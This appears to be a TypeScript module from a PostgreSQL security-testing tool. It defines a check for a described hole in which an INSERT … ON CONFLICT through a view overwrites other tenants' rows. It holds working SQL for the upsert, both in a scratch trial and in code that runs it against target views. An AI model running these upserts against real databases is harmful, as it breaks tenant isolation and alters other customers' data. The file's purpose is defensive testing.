import { quoteIdentifier } from "../../../postgres/sql/quote";
import type { AttackContext } from "../../context";
import { heldBack, type Observation, reached } from "../../observation";
import { NO_RIGHTS } from "../../scene/rights";
import type { TenantTable, TenantView } from "../../scene/scene";
import { insertStatement } from "../../seed/row-maker";
import { SCRATCH, scratchSchema } from "../scratch";
import { unchanged } from "../tenant/actions";
import { rowsInTheWay } from "../tenant/keys";
import { BEHIND_ROW_SECURITY } from "../tenant/tenant-attack";
import { holeAttack } from "./hole";

export default holeAttack({
  id: "hole-conflict-view",
  hole: "CVE-2026-16237",
  title: "Uses a hole: INSERT … ON CONFLICT through a view changes rows that the view does not show",
  severity: "high",
  why: "A view that shows one tenant's rows lets an upsert overwrite those of every other one.",
  defence:
    "no privilege to write views of tenant tables, or security_invoker views over tables with row security",
  harmless: "no view that it may write reaches another tenant's rows",
  meanwhile: "grant no more than SELECT on views, and make them security_invoker",
  withstoodBy: ["42501", "44000"],
  trial: ({ stranger: { role } }) => ({
    prepare: [
      ...scratchSchema(role),
      `CREATE TABLE ${SCRATCH}.rows (id int PRIMARY KEY, tenant text, note text)`,
      `INSERT INTO ${SCRATCH}.rows VALUES (1, 'own', ''), (2, 'other', '')`,
      `CREATE VIEW ${SCRATCH}.mine WITH (security_barrier) AS SELECT * FROM ${SCRATCH}.rows WHERE tenant = 'own'`,
      `GRANT SELECT, INSERT, UPDATE ON ${SCRATCH}.mine TO ${quoteIdentifier(role)}`,
    ],
    statements: [
      `WITH written AS (INSERT INTO ${SCRATCH}.mine VALUES (2, 'own', '') ON CONFLICT (id)
         DO UPDATE SET note = 'changed' RETURNING 1) SELECT count(*) FROM written`,
    ],
    read: () => reached("it changed a row that the view does not show"),
  }),
  breaches: BEHIND_ROW_SECURITY,
  refusals: ["42501", "44000"],
  here: async (context) => {
    const views = context.scene.targets.view.filter((view) => {
      const { insert, update, writable } = context.rights.get(view.object.oid) ?? NO_RIGHTS;
      return insert && update && writable.insert && writable.update && view.column !== undefined;
    });
    const pairs = views.flatMap((view) => view.reads.map((table) => ({ view, table })));
    const all = await Promise.all(pairs.map(({ view, table }) => upserts(context, view, table)));
    return all.flat();
  },
});

/** Upserts through the view of rows that stand in the way of the table's keys, as far as the view shows these. */
async function upserts(
  context: AttackContext,
  { object }: TenantView,
  table: TenantTable,
): Promise<Observation[]> {
  const seed = context.seed(table);
  if ("missing" in seed) return [];
  const rows = rowsInTheWay(context, table, seed);
  if ("missing" in rows) return [];
  const shown = new Set(object.columns?.map(({ name }) => name));
  const [set] = context.rights.get(object.oid)?.settable ?? [];
  if (set === undefined) return [];
  const column = quoteIdentifier(set);
  const seen = await context.attempts(
    rows
      .filter(({ key }) => key.every((name) => shown.has(name)))
      .map(({ key, values, room }) => ({
        ...room,
        statements: [
          context.serve(table, seed.own),
          `${insertStatement(object, new Map([...values].filter(([name]) => shown.has(name))), "target")}
             ON CONFLICT (${key.map(quoteIdentifier).join(", ")}) DO UPDATE SET ${column} = target.${column}`,
        ],
        verify: unchanged(table, seed.other, "changed a row of another tenant through the view"),
      })),
  );
  return seen.map((each) => (each.kind === "silent" ? heldBack(each.how) : each));
}
